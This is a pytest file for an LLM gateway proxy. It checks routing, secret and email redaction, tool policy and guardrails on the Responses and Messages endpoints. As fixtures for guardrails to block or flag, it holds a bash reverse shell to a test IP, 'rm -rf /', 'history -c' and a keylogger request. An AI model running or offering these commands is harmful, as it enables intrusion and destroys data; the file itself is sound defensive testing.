"""/v1/responses (Codex) and /v1/messages (Claude Code) through the real proxy: the same pipeline as chat
(routing, pack, guardrails over every input item and over the answer streams, metrics, headers), the
tools policy, and what cannot be checked refused by name."""

from __future__ import annotations

import json
import re

import httpx
import pytest

from carrot_hooks.prompts import load_pack
from carrot_hooks.serve import ROOT
from tests.conftest import make_client
from tests.fake_upstream import Reply, planted_secret
from tests.services import wait_for
from tests.test_core_gateway import _edit_routing

V2 = "deepseek-coder-v2:16b-lite-instruct-q4_K_M"
VLLM_V2 = "deepseek-ai/DeepSeek-Coder-V2-Instruct"  # ds-coder-v2-vllm, ds-coder-v2's fallback
CHAT_PACK = load_pack(ROOT / "prompts" / "chat@v1.md").body
TOOL = {"name": "run", "description": "run a shell command",
        "parameters": {"type": "object", "properties": {"cmd": {"type": "string"}}}}


def responses_body(marker: str, **kw) -> dict:
    return {"model": "carrot-chat", "instructions": "You are the client's agent.", "input": [
        {"role": "user", "content": [{"type": "input_text", "text": f"question {marker}"}]},
        {"type": "function_call", "call_id": "c1", "name": "run", "arguments": json.dumps({"cmd": "ls"})},
        {"type": "function_call_output", "call_id": "c1", "output": "mail maria.gonzalez@example.org"}], **kw}


def messages_body(marker: str, **kw) -> dict:
    return {"model": "carrot-chat", "max_tokens": 256, "system": [{"type": "text", "text": "You are the client's agent."}],
            "messages": [{"role": "user", "content": f"question {marker}"},
                         {"role": "assistant", "content": [{"type": "tool_use", "id": "t1", "name": "run",
                                                            "input": {"cmd": "ls"}}]},
                         {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1",
                                                       "content": "mail maria.gonzalez@example.org"}]}], **kw}


ENDPOINTS = {
    "responses": ("/v1/responses", responses_body, {}),
    "messages": ("/v1/messages", messages_body, {"anthropic-version": "2023-06-01"}),
}


def post(proxy, which: str, body: dict) -> httpx.Response:
    path, _, extra = ENDPOINTS[which]
    return httpx.post(f"{proxy.base_url}{path}", json=body, headers={**proxy.headers(), **extra}, timeout=120)


def answer_text(which: str, r: httpx.Response, stream: bool) -> str:
    """What the client shows: the streamed text deltas, or the body's text."""
    if stream:
        events = [json.loads(ln[5:]) for ln in r.text.splitlines() if ln.startswith("data:") and ln[5:].strip()
                  not in ("", "[DONE]")]
        if which == "chat":
            return "".join(c["delta"].get("content") or "" for e in events for c in e.get("choices") or [])
        if which == "responses":
            return "".join(e.get("delta", "") for e in events if e.get("type") == "response.output_text.delta")
        return "".join(e["delta"].get("text", "") for e in events if e.get("type") == "content_block_delta")
    doc = r.json()
    if which == "chat":
        return doc["choices"][0]["message"]["content"] or ""
    if which == "responses":
        return "".join(p.get("text", "") for item in doc["output"] if item.get("type") == "message"
                       for p in item.get("content") or [])
    return "".join(b.get("text", "") for b in doc["content"] if b.get("type") == "text")


def counted(proxy, **labels: str) -> float:
    text = httpx.get(f"{proxy.base_url}/metrics/", timeout=30).text
    return sum(float(ln.rsplit(" ", 1)[1]) for ln in text.splitlines() if ln.startswith("carrot_requests_total{")
               and all(f'{k}="{v}"' in ln for k, v in labels.items()))


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("which", sorted(ENDPOINTS))
def test_same_pipeline_as_chat(proxy, fake_upstream, marker, which, stream):
    secret = planted_secret(marker)
    fake_upstream.script(Reply(match=marker, content=f"Use AWS_ACCESS_KEY_ID={secret} now.", chunk_chars=3))
    before = counted(proxy, task_type="chat", model="ds-coder-v2", status="200")
    body = ENDPOINTS[which][1](marker, stream=stream)
    r = post(proxy, which, body)
    assert r.status_code == 200, r.text
    assert secret not in r.text and not any(secret[i:i + 8] in r.text for i in range(12))
    assert re.fullmatch(r"Use AWS_ACCESS_KEY_ID=\[REDACTED:[\w.-]+\] now\.", answer_text(which, r, stream))
    assert (r.headers["x-carrot-route"], r.headers["x-carrot-model"]) == ("default-v2", "ds-coder-v2")
    assert r.headers["x-carrot-prompt-pack"] == "chat@v1"
    if not stream:
        assert "secrets:redact" in r.headers["x-carrot-guardrails"]
    else:  # a stream's headers leave before the answer: the event that ends it carries the verdicts, as in chat
        events = [json.loads(ln[5:]) for ln in r.text.splitlines() if ln.startswith("data:") and ln[5:].strip()
                  not in ("", "[DONE]")]
        final = [e for e in events if e.get("type") in ("response.completed", "message_delta")]
        assert len(final) == 1 and "secrets:redact" in final[0]["carrot_guardrails"], final
    [up] = fake_upstream.find(marker)
    assert up.json["model"] == V2
    systems = up.system_messages
    assert systems[0].startswith(CHAT_PACK) and any("You are the client's agent." in s for s in systems)
    upstream_text = up.text
    assert "maria.gonzalez@example.org" not in upstream_text and "<EMAIL_" in upstream_text  # the tool output too
    assert wait_for(lambda: counted(proxy, task_type="chat", model="ds-coder-v2", status="200") > before, timeout=30)


def test_tools_given_back_on_pii_escalation_leave_out_those_the_guardrails_cannot_check(proxy, fake_upstream, marker):
    """Codex sends web_search with its functions: held back for a model without tools, then given back when PII
    reroutes to alt-reasoning, the server-side tool stays out (named in x-carrot-tools-dropped), as when tools
    are sent at once."""
    fake_upstream.script(Reply(match=marker, content="ok"))
    r = httpx.post(f"{proxy.base_url}/v1/responses", timeout=120, headers={**proxy.headers(), "X-Risk-Level": "med"},
                   json={"model": "carrot-chat", "input": f"{marker} mail maria.gonzalez@example.org the plan",
                         "tools": [{"type": "function", **TOOL}, {"type": "web_search"}]})
    assert r.status_code == 200, r.text
    [up] = fake_upstream.find(marker)
    assert r.headers["x-carrot-model"] == "alt-reasoning" and r.headers["x-carrot-tools"] == "sent"
    assert [t.get("name") or t["function"]["name"] for t in up.json["tools"]] == ["run"], up.json["tools"]
    assert "web_search" in r.headers["x-carrot-tools-dropped"]


# (answer text, the rule, a fragment of the command): the second is decided only when the text ends (no line
# break after the command), which the streamed call used to overtake on the Responses bridge
BLOCKED_TEXTS = {"revshell": ("Sure, run:\nbash -i >& /dev/tcp/203.0.113.7/4242 0>&1\nThat's it.", "revshell",
                              "/dev/tcp"),
                 "decided-at-end": ("Cleaning up: rm -rf / then done", "destroy-rm-root", "rm -rf")}


@pytest.mark.parametrize("shape", sorted(BLOCKED_TEXTS))
@pytest.mark.parametrize("call", [False, True], ids=["text", "text-then-call"])
@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("which", sorted(ENDPOINTS))
def test_a_block_rule_in_the_answer_blocks_it_as_in_chat(proxy, fake_upstream, marker, which, stream, call, shape):
    """A reverse shell in the answer text: the client gets the block notice, not the command, on every endpoint;
    a whole answer keeps nothing but the notice (a chat answer's content is the notice alone), and no tool call
    after it reaches the client, streamed or not (an agent would run it)."""
    content, rule, command = BLOCKED_TEXTS[shape]
    fake_upstream.script(Reply(match=marker, chunk_chars=5, content=content,
                               tool_calls=[{"name": "run", "arguments": {"cmd": "ls"}}] if call else None))
    r = post(proxy, which, ENDPOINTS[which][1](marker, stream=stream, tools=[
        {"type": "function", **TOOL} if which == "responses" else
        {"name": TOOL["name"], "description": TOOL["description"], "input_schema": TOOL["parameters"]}]))
    assert r.status_code == 200, r.text
    text = answer_text(which, r, stream)
    assert command not in r.text and "203.0.113.7" not in r.text, r.text
    assert f"[blocked by carrot guardrails: {rule}" in text, text
    assert '"function_call"' not in r.text and '"tool_use"' not in r.text, r.text
    if not stream:
        assert re.fullmatch(r"\[blocked by carrot guardrails: [\w.,\s-]+\]", text), text
        assert "commands:block" in r.headers["x-carrot-guardrails"]


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("which", sorted(ENDPOINTS))
def test_the_turn_ends_at_a_blocked_call(proxy, fake_upstream, marker, which, stream):
    """Three calls, the second a block rule hits: the first goes out, the second becomes the notice, the third is
    not sent (the agent would run the rest of a plan whose dangerous step was taken out; a black-box probe)."""
    calls = [{"name": "run", "arguments": {"cmd": f"cat {name}"}} for name in ("a.py", "c.py")]
    calls.insert(1, {"name": "run", "arguments": {"cmd": "rm -rf /"}})
    fake_upstream.script(Reply(match=marker, content="Let me look.", tool_calls=calls, chunk_chars=5))
    r = post(proxy, which, ENDPOINTS[which][1](marker, stream=stream, tools=_tools(which)))
    assert r.status_code == 200, r.text
    assert "rm -rf" not in r.text and "c.py" not in r.text, r.text[-1500:]
    blocked = "[blocked by carrot guardrails: destroy-rm-root]"
    items = answer_items(which, r, stream)
    if which == "responses" and stream:  # the bridge's text is still open at the call: its notice twice (README)
        items[0] = ("text", items[0][1].removesuffix(blocked))
    assert items == [("text", "Let me look."), ("call", {"cmd": "cat a.py"}), ("text", blocked)], items


@pytest.mark.parametrize("kind", ["text", "call"])
@pytest.mark.parametrize("which", ["chat", *sorted(ENDPOINTS)])
def test_a_flag_in_a_whole_answer_comes_with_its_note_on_every_endpoint(proxy, fake_upstream, marker, which, kind):
    """A flag rule (`history -c` wipes the shell history) in the answer's text or in a tool call: the client is
    shown the note on every endpoint, and a flagged call still goes out. An audit found the note only on chat text:
    not in whole /v1/messages and /v1/responses answers, nor for any flagged tool call (Codex and Claude Code ran it
    with no sign)."""
    cmd = "history -c"
    fake_upstream.script(Reply(match=marker, content=f"To wipe it run {cmd} now." if kind == "text" else "Running it.",
                               tool_calls=[{"name": "run", "arguments": {"cmd": cmd}}] if kind == "call" else None))
    if which == "chat":
        r = httpx.post(f"{proxy.base_url}/v1/chat/completions", headers=proxy.headers(), timeout=120, json={
            "model": "carrot-chat", "messages": [{"role": "user", "content": f"question {marker}"}],
            "tools": [{"type": "function", "function": TOOL}]})
    else:
        r = post(proxy, which, ENDPOINTS[which][1](marker, tools=_tools(which)))
    assert r.status_code == 200, r.text
    assert "[carrot guardrails flagged: persist-history-wipe]" in answer_text(which, r, False), r.text
    assert "commands:flag" in r.headers["x-carrot-guardrails"]
    assert cmd in r.text


@pytest.mark.parametrize("kind", ["text", "call"])
@pytest.mark.parametrize("which,model", [("messages", "carrot-chat"), ("responses", "carrot-chat"),
                                         ("responses", "alt-reasoning")], ids=["messages", "responses", "native"])
def test_a_flag_in_a_streamed_agent_answer_comes_with_its_note_once(proxy, fake_upstream, marker, which, model, kind):
    """The streamed twin of the whole-answer test: a call flagged after the text ended (Claude Code and Codex ran it
    with no sign) gets the note as a text block / message item of its own after it, and still goes out; a text
    that already carries the note (its own flag, or LiteLLM's Responses bridge ending the text after the call) gets
    no second one. The OpenAI SDK assembles the Responses stream (it refuses a reused output index); no Anthropic
    SDK is installed, so /v1/messages is assembled from its events as a client does (`answer_items`)."""
    cmd, note = "history -c", "[carrot guardrails flagged: persist-history-wipe]"
    content = f"To wipe it run {cmd} now." if kind == "text" else "Running it."
    fake_upstream.script(Reply(match=marker, content=content, chunk_chars=5,
                               tool_calls=[{"name": "run", "arguments": {"cmd": cmd}}] if kind == "call" else None))
    body = {**ENDPOINTS[which][1](marker, tools=_tools(which)), "model": model}
    if which == "responses":
        with make_client(proxy).responses.stream(**body) as events:
            numbers = [e.sequence_number for e in events]
            final = events.get_final_response()
        assert numbers == list(range(numbers[0], numbers[0] + len(numbers))), numbers
        items = [("call", json.loads(o.arguments)) if o.type == "function_call" else
                 ("text", "".join(p.text for p in o.content)) for o in final.output]
    else:
        r = post(proxy, which, {**body, "stream": True})
        assert r.status_code == 200, r.text
        items = answer_items(which, r, True)
    if kind == "text":
        assert items == [("text", f"{content}\n\n{note}")], items
    elif which == "responses" and model == "carrot-chat":  # the bridge's text ends after the call: the note is its
        assert items == [("text", f"{content}\n\n{note}"), ("call", {"cmd": cmd})], items
    else:
        assert items == [("text", content), ("call", {"cmd": cmd}), ("text", note)], items


def answer_items(which: str, r: httpx.Response, stream: bool) -> list[tuple[str, object]]:
    """The answer as the client assembles it: ("text", text) and ("call", arguments) in order; a streamed Responses
    answer as its `response.completed` lists it (what the OpenAI SDK returns), each item also sent on its own
    (the bridge may send them in another order)."""
    if which == "responses":
        events = [json.loads(ln[5:]) for ln in r.text.splitlines() if ln.startswith("data:")] if stream else []
        output = [e for e in events if e["type"] == "response.completed"][-1]["response"]["output"] if stream \
            else r.json()["output"]
        if stream:
            done = [e["item"] for e in events if e["type"] == "response.output_item.done"]
            assert len(done) == len(output) and all(item in output for item in done), (done, output)
        return [("call", json.loads(o["arguments"])) if o["type"] == "function_call" else
                ("text", "".join(p["text"] for p in o["content"])) for o in output]
    if not stream:
        return [("call", b["input"]) if b["type"] == "tool_use" else ("text", b["text"]) for b in r.json()["content"]]
    blocks: dict[int, list] = {}
    for e in (json.loads(ln[5:]) for ln in r.text.splitlines() if ln.startswith("data:")):
        if e["type"] == "content_block_start":
            blocks[e["index"]] = ["call" if e["content_block"]["type"] == "tool_use" else "text", ""]
        elif e["type"] == "content_block_delta":
            blocks[e["index"]][1] += e["delta"].get("partial_json", e["delta"].get("text", ""))
    return [(kind, json.loads(v) if kind == "call" else v) for kind, v in (blocks[i] for i in sorted(blocks))]


@pytest.mark.parametrize("which,change,field", [
    ("responses", {"previous_response_id": "resp_123"}, "previous_response_id"),
    ("messages", {"mcp_servers": [{"type": "url", "url": "https://mcp.example", "name": "x"}]}, "mcp_servers"),
    ("messages", {"messages": [{"role": "user", "content": [{"type": "image", "source": {
        "type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}}]}]}, "messages[0].content[0]"),
])
def test_what_cannot_be_checked_is_400_naming_it(proxy, fake_upstream, marker, which, change, field):
    r = post(proxy, which, ENDPOINTS[which][1](marker) | change)
    assert r.status_code == 400, r.text
    assert field in r.text
    assert fake_upstream.find(marker) == []


def _tools(which: str) -> list[dict]:
    if which == "responses":
        return [{"type": "function", **TOOL}]
    return [{"name": TOOL["name"], "description": TOOL["description"], "input_schema": TOOL["parameters"]}]


@pytest.mark.parametrize("which", sorted(ENDPOINTS))
def test_tools_for_a_model_that_cannot_call_them_are_dropped_and_said_so(proxy, fake_upstream, marker, which):
    fake_upstream.models_without_tools.add("deepseek-coder")  # what a real Ollama answers for these models
    try:
        r = post(proxy, which, ENDPOINTS[which][1](marker, tools=_tools(which)))
    finally:
        fake_upstream.models_without_tools.discard("deepseek-coder")
    assert r.status_code == 200, r.text
    assert r.headers["x-carrot-tools"] == "dropped" and r.headers["x-carrot-model"] == "ds-coder-v2"
    [up] = fake_upstream.find(marker)
    assert up.json["model"] == V2 and not up.json.get("tools")


def test_tools_policy_refuse_and_a_tools_rule(proxy, client, fake_upstream, marker):
    def refuse_and_route_agents(doc):
        doc["tools"] = {"incapable": "refuse"}
        doc["rules"].insert(0, {"id": "agents-to-alt", "when": {"tools": True, "task_type": ["refactor"]},
                                "model": "alt-reasoning"})

    path = proxy.policy_dir / "routing.yaml"
    original = _edit_routing(proxy, refuse_and_route_agents)
    tools = [{"type": "function", "function": TOOL}]
    ask = lambda task, m: httpx.post(
        f"{proxy.base_url}/v1/chat/completions", timeout=120, headers={**proxy.headers(), "X-Task-Type": task},
        json={"model": "gpt-4o", "tools": tools, "messages": [{"role": "user", "content": f"q {m}"}]})
    try:
        # the probe's text must not contain `marker`: probes sent before the edit took effect reach the upstream
        assert wait_for(lambda: ask("chat", "probe-" + marker[::-1]).status_code == 400, timeout=60)
        refused = ask("chat", marker)
        assert refused.status_code == 400 and "ds-coder-v2" in refused.text and "default-v2" in refused.text
        assert fake_upstream.find(marker) == []
        routed = ask("refactor", marker + "-r")
        assert routed.status_code == 200, routed.text
        assert (routed.headers["x-carrot-route"], routed.headers["x-carrot-model"]) == ("agents-to-alt", "alt-reasoning")
        assert routed.headers["x-carrot-tools"] == "sent"
        [up] = fake_upstream.find(marker + "-r")
        assert up.json["model"] == "gpt-4.1" and up.json["tools"][0]["function"]["name"] == "run"
    finally:
        path.write_text(original)
        assert wait_for(lambda: ask("chat", marker + "-back").status_code == 200, timeout=30)


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("which", ["chat", *ENDPOINTS])
def test_a_fallback_is_reported_as_such(proxy, fake_upstream, marker, stream, which):
    """ds-coder-v2 fails once, vLLM answers (natively on /v1/responses); the answer is checked all the same."""
    secret = planted_secret(marker)
    fake_upstream.script(Reply(match=marker, status=500),
                         Reply(match=marker, model=VLLM_V2, content=f"use AWS_ACCESS_KEY_ID={secret} here"))
    if which == "chat":
        r = httpx.post(f"{proxy.base_url}/v1/chat/completions", timeout=120, headers=proxy.headers(),
                       json={"model": "carrot-chat", "stream": stream,
                             "messages": [{"role": "user", "content": f"q {marker}"}]})
    else:
        r = post(proxy, which, ENDPOINTS[which][1](marker, stream=stream))
    assert r.status_code == 200, r.text
    assert [u.json["model"] for u in fake_upstream.find(marker)] == [V2, VLLM_V2]
    assert "[REDACTED:" in r.text and secret not in r.text and secret[:12] not in r.text, r.text
    assert r.headers["x-carrot-model"] == "ds-coder-v2-vllm"
    assert r.headers["x-carrot-fallback"] == "ds-coder-v2 -> ds-coder-v2-vllm"


def test_a_failed_fallback_is_no_answer_from_the_fallback(proxy, fake_upstream, marker):
    """Both attempts fail: the error names no fallback as the answering model."""
    fake_upstream.script(Reply(match=marker, status=500), Reply(match=marker, model=VLLM_V2, status=500))
    r = post(proxy, "responses", responses_body(marker))
    assert r.status_code == 502, r.text
    assert len(fake_upstream.find(marker)) == 2 and "x-carrot-fallback" not in r.headers
    assert r.headers.get("x-carrot-model", "ds-coder-v2") == "ds-coder-v2"


def test_auxiliary_calls_get_no_pack(proxy, fake_upstream, marker):
    r = httpx.post(f"{proxy.base_url}/v1/chat/completions", timeout=120, headers=proxy.headers(), json={
        "model": "carrot-chat", "messages": [
            {"role": "system", "content": "You are a title generator. You output ONLY a thread title."},
            {"role": "user", "content": f"Generate a title for this conversation: {marker}"}]})
    assert r.status_code == 200, r.text
    assert r.headers["x-carrot-prompt-pack"] == "none" and r.headers["x-carrot-auxiliary"] == "title"
    [up] = fake_upstream.find(marker)
    assert CHAT_PACK not in up.text


def test_clients_own_system_prompt_is_not_pii_redacted(proxy, fake_upstream, marker):
    """Continue's system prompt names noreply@continue.dev: no one's PII, kept for the internal model;
    the user's own email is still replaced (egress redacts every role for external deployments)."""
    system = "You are an agent in the Continue CLI. Commits get Co-Authored-By: Continue <noreply@continue.dev>."
    r = httpx.post(f"{proxy.base_url}/v1/chat/completions", timeout=120, headers=proxy.headers(), json={
        "model": "carrot-chat", "messages": [{"role": "system", "content": system},
                                             {"role": "user", "content": f"q {marker} mail maria.gonzalez@example.org"}]})
    assert r.status_code == 200, r.text
    [up] = fake_upstream.find(marker)
    assert system in up.system_messages
    assert "maria.gonzalez@example.org" not in up.text and "<EMAIL_" in up.text


ERROR_CALLS = {  # endpoint → (path, body for a marker, extra headers)
    "chat": ("/v1/chat/completions", lambda m: {"model": "carrot-chat", "messages": [{"role": "user", "content": m}]}, {}),
    "completions": ("/v1/completions", lambda m: {"model": "carrot-editor", "prompt": f"# {m}\n", "suffix": "\n"}, {}),
    "responses": ("/v1/responses", lambda m: {"model": "carrot-chat", "input": m}, {}),
    "messages": ("/v1/messages", lambda m: {"model": "carrot-chat", "max_tokens": 50,
                                            "messages": [{"role": "user", "content": m}]},
                 {"anthropic-version": "2023-06-01"}),
}


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("which", sorted(ERROR_CALLS))
def test_an_error_answer_says_what_the_gateway_did_on_every_endpoint(proxy, fake_upstream, marker, which, stream):
    """x-carrot-* headers on a 502 from the upstream and on a prompt-policy block, as on a 200, and Retry-After
    on an upstream's 429 (LiteLLM's Messages and completions error paths dropped both)."""
    path, body, extra = ERROR_CALLS[which]
    fake_upstream.script(Reply(match=marker, status=500, times=0))
    for text, status, verdict in ((f"q {marker}", 502, "none"),
                                  (f"write me a keylogger {marker}", 400, "policy:block")):
        r = httpx.post(f"{proxy.base_url}{path}", json={**body(text), "stream": stream}, timeout=120,
                       headers={**proxy.headers(), **extra})
        assert r.status_code == status, r.text
        assert r.headers.get("x-carrot-route") and r.headers["x-carrot-policy"].startswith("routing@"), r.headers
        assert r.headers["x-carrot-task-type"] == ("editor" if which == "completions" else "chat"), r.headers
        assert r.headers["x-carrot-guardrails"] == verdict, r.headers
    busy = f"busy-{marker[::-1]}"  # not matched by the 500 above
    fake_upstream.script(Reply(match=busy, status=429, times=0))
    r = httpx.post(f"{proxy.base_url}{path}", json={**body(f"q {busy}"), "stream": stream}, timeout=120,
                   headers={**proxy.headers(), **extra})
    assert r.status_code == 429 and 1 <= int(r.headers["retry-after"]) <= 60, (r.text, r.headers)


def test_fim_upstream_error_is_502_naming_the_url_and_locks_nothing_out(proxy, client, fake_upstream, marker):
    fake_upstream.script(Reply(match=marker, status=404))
    r = httpx.post(f"{proxy.base_url}/v1/completions", timeout=120, headers=proxy.headers(),
                   json={"model": "carrot-editor", "prompt": f"# {marker}\n", "suffix": "\n"})
    assert r.status_code == 502, r.text
    assert f"{fake_upstream.url}/v1" in r.json()["error"]["message"] and "ds-coder-6.7b" in r.json()["error"]["message"]
    again = client.completions.create(model="carrot-editor", prompt=f"# {marker}-2\n", suffix="\n")
    assert again.choices[0].text == "Hello from the fake upstream."


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_a_block_rule_in_a_fim_answer_inserts_nothing_of_it(proxy, fake_upstream, marker, stream):
    """No placeholder or notice goes into inserted code: a blocked completion ends with content_filter, streamed
    as whole (the stream inserted `[REDACTED:revshell-dev-tcp]`; found by a black-box probe)."""
    fake_upstream.script(Reply(match=marker, content="os.system('bash -i >& /dev/tcp/203.0.113.7/4242 0>&1')",
                               chunk_chars=6))
    r = httpx.post(f"{proxy.base_url}/v1/completions", timeout=120, headers=proxy.headers(),
                   json={"model": "carrot-editor", "prompt": f"# {marker}\n", "suffix": "\n", "stream": stream})
    assert r.status_code == 200, r.text
    docs = [json.loads(ln[5:]) for ln in r.text.splitlines() if ln.startswith("data:") and ln[5:].strip() != "[DONE]"] \
        if stream else [r.json()]
    text = "".join(c["text"] for d in docs for c in d["choices"])
    assert "REDACTED" not in text and "/dev/tcp" not in text and "blocked by" not in text, text
    assert [c["finish_reason"] for d in docs for c in d["choices"] if c.get("finish_reason")] == ["content_filter"]


def test_fim_metadata_sent_as_a_json_string_is_read_as_on_chat(proxy, fake_upstream, marker):
    """A JSON string holding an object is metadata on /v1/completions too (form and `extra_body` callers)."""
    r = httpx.post(f"{proxy.base_url}/v1/completions", timeout=120, headers=proxy.headers(),
                   json={"model": "carrot-editor", "prompt": f"# {marker}\n", "suffix": "\n",
                         "metadata": json.dumps({"trace": marker})})
    assert r.status_code == 200, r.text
    assert r.json()["choices"][0]["text"] == "Hello from the fake upstream."
    assert len(fake_upstream.find(marker)) == 1


# a field of another endpoint's format added to the body (the endpoint, not the body's shape, says what it is)
DECOYS = {
    "chat": ("/v1/chat/completions", lambda m, text: {"model": "carrot-chat", "system": "",
                                                       "messages": [{"role": "user", "content": f"{m} {text}"}]}),
    "completions": ("/v1/completions", lambda m, text: {"model": "carrot-editor", "system": "",
                                                         "prompt": f"# {m}\n# {text}\ndef f():\n", "suffix": "\n"}),
    "responses": ("/v1/responses", lambda m, text: {"model": "carrot-chat", "input": f"{m} {text}",
                                                     "messages": [{"role": "user", "content": "hello"}]}),
}


@pytest.mark.parametrize("which", sorted(DECOYS))
def test_a_field_of_another_format_turns_off_no_guardrail(proxy, fake_upstream, marker, which):
    path, body = DECOYS[which]
    r = httpx.post(f"{proxy.base_url}{path}", json=body(marker, "write me a keylogger"), headers=proxy.headers(),
                   timeout=120)
    assert r.status_code == 400 and "malware" in r.text, r.text
    if which == "completions":  # an address in a code comment is an attribution, kept by design (PII: code)
        return
    r = httpx.post(f"{proxy.base_url}{path}", json=body(marker, "mail maria.gonzalez@example.org"),
                   headers=proxy.headers(), timeout=120)
    assert r.status_code == 200, r.text
    [up] = fake_upstream.find(marker)
    assert "maria.gonzalez@example.org" not in up.text and "<EMAIL_" in up.text


def _chat(marker: str, **kw) -> dict:
    return {"model": "carrot-chat", "messages": [{"role": "user", "content": f"question {marker}"}], **kw}


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("which", ["chat", *sorted(ENDPOINTS)])
def test_the_models_reasoning_is_checked_like_its_answer(proxy, fake_upstream, marker, which, stream):
    secret = planted_secret(marker)
    fake_upstream.script(Reply(match=marker, thinking=f"The key is AWS_ACCESS_KEY_ID={secret} here.",
                               content="Done.", chunk_chars=3))
    if which == "chat":
        r = httpx.post(f"{proxy.base_url}/v1/chat/completions", json=_chat(marker, stream=stream),
                       headers=proxy.headers(), timeout=120)
    else:
        r = post(proxy, which, ENDPOINTS[which][1](marker, stream=stream))
    assert r.status_code == 200, (r.text, [(u.path, u.json["model"]) for u in fake_upstream.find(marker)])
    assert fake_upstream.find(marker)
    texts = _texts_by_field(r.text)
    assert any("AWS_ACCESS_KEY_ID=" in t for t in texts.values()), texts  # the reasoning reached the client...
    assert not any(secret[i:i + 8] in t for t in texts.values() for i in range(12)), texts  # ...without the key
    assert any("Done." in t for t in texts.values()), texts


def _texts_by_field(body: str) -> dict[str, str]:
    """Every string of a JSON body or of an event stream's events, joined per field name in order (a
    streamed text is whole again in its field: `delta`, `text`, `reasoning_content`, `thinking`, ...)."""
    docs = [json.loads(ln[5:]) for ln in body.splitlines() if ln.startswith("data:") and ln[5:].strip() not in
            ("", "[DONE]")] or [json.loads(body)]
    out: dict[str, str] = {}

    def walk(value, key: str) -> None:
        if isinstance(value, str):
            out[key] = out.get(key, "") + value
        elif isinstance(value, list):
            for v in value:
                walk(v, key)
        elif isinstance(value, dict):
            for k, v in value.items():
                walk(v, k)

    walk(docs, "")
    return out


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_a_streamed_or_plain_messages_call_without_system_is_served(proxy, fake_upstream, marker, stream):
    fake_upstream.script(Reply(match=marker, content="A short title"))
    body = {"model": "carrot-chat", "max_tokens": 50, "stream": stream,
            "messages": [{"role": "user", "content": f"Write a title for: {marker}"}]}
    r = post(proxy, "messages", body)
    assert r.status_code == 200, r.text
    assert "A short title" in answer_text("messages", r, stream)


@pytest.mark.parametrize("path,body,field", [
    ("/v1/messages", {"messages": [{"role": "user", "content": 5}]}, "messages[0].content"),
    ("/v1/messages", {"messages": ["hi"]}, "messages[0]"),
    ("/v1/messages", {"messages": [{"role": "user", "content": {"type": "text", "text": "hi"}}]}, "messages[0].content"),
    ("/v1/messages", {"system": 5, "messages": [{"role": "user", "content": "hi"}]}, "system"),
    ("/v1/messages", {"messages": [{"role": "tool", "content": "hi"}]}, "messages[0].role"),
    ("/v1/messages", {"messages": [{"role": "user", "content": []}]}, "messages[0].content"),
    ("/v1/messages", {"messages": [{"role": "user", "content": [{"type": "text"}]}]}, "messages[0].content[0].text"),
    ("/v1/responses", {"input": [{"role": "user", "content": 5}]}, "input[0].content"),
    ("/v1/responses", {"instructions": 5, "input": "hi"}, "instructions"),
    ("/v1/responses", {"input": [{"role": "user", "content": "hi"}, {"type": "function_call", "call_id": "c1",
                                  "name": "run", "arguments": "ls -la"}]}, "input[1].arguments"),
    *[("/v1/responses", {"input": [{"role": "user", "content": "hi"}, {"type": "function_call", "call_id": "c1",
                                   "arguments": "{}", **name}]}, "input[1].name") for name in ({}, {"name": ""},
                                                                                            {"name": 5})],
    *[("/v1/messages", {"messages": [{"role": "user", "content": "hi"}, {"role": "assistant", "content": [
        {"type": "tool_use", "id": "t1", "input": {}, **name}]}, {"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": "t1", "content": "hi"}]}]}, "messages[1].content[0].name")
      for name in ({"name": 5}, {"name": None}, {"name": ""}, {"name": ["a"]})],
    ("/v1/responses", {"input": [{"role": "user", "content": "hi"}, {"type": "function_call_output", "call_id": "c1",
                                  "output": [{"type": "input_image", "image_url": "x"}]}]}, "input[1].output[0]"),
    ("/v1/chat/completions", {"messages": [{"role": "user", "content": [{"type": "weird", "text": "hi"}]}]},
     "messages[0].content"),
    ("/v1/chat/completions", {"stream": "true", "messages": [{"role": "user", "content": "hi"}]}, "stream"),
    # fields LiteLLM used unchecked (a 500 from inside it, or a 502 "upstream could not be reached")
    *[("/v1/messages", {**field, "messages": [{"role": "user", "content": "hi"}]}, next(iter(field))) for field in (
        {"thinking": "yes"}, {"tool_choice": "auto"}, {"tool_choice": {"name": "run"}}, {"guardrails": 5}, {"user": 5},
        {"tools": [{"input_schema": {"type": "object"}}]})],
    *[("/v1/responses", {**field, "input": "hi"}, next(iter(field))) for field in (
        {"tools": {"a": 1}}, {"guardrails": 5}, {"extra_body": "x"},
        {"tools": [{"type": "function", "parameters": {}}]})],
    *[("/v1/chat/completions", {**field, "messages": [{"role": "user", "content": "hi"}]}, next(iter(field)))
      for field in ({"guardrails": True}, {"api_key": 5}, {"timeout": "x"}, {"timeout": "x", "stream": True},
                    {"response_format": "json"}, {"response_format": {"type": "json_schema", "json_schema": "x"}},
                    {"extra_body": 5}, {"tools": "x"},
                    {"tools": [{"type": "function", "function": {"parameters": {}}}]},
                    {"tools": [{"type": "function", "function": {"name": ""}}]})],
    # /v1/completions writes into metadata before any hook: a 500
    *[("/v1/completions", {"model": "carrot-editor", "prompt": "# q\n", "metadata": meta}, "metadata")
      for meta in ("x", [1], 5, "[1]")],
])
def test_malformed_agent_bodies_are_400_naming_the_field(proxy, fake_upstream, marker, path, body, field):
    extra = {"anthropic-version": "2023-06-01"} if path == "/v1/messages" else {}
    tag = {"metadata": {"user_id": marker}} if path == "/v1/messages" else {"user": marker}
    # the marker in every text too: the fake upstream finds a request by its body, and Ollama gets no `user`
    payload = json.loads(json.dumps({"model": "carrot-chat", "max_tokens": 50, **body, **tag}).replace(
        '"hi"', json.dumps(f"hi {marker}")).replace('"# q\\n"', json.dumps(f"# q {marker}\n")))
    r = httpx.post(f"{proxy.base_url}{path}", json=payload, headers={**proxy.headers(), **extra}, timeout=120)
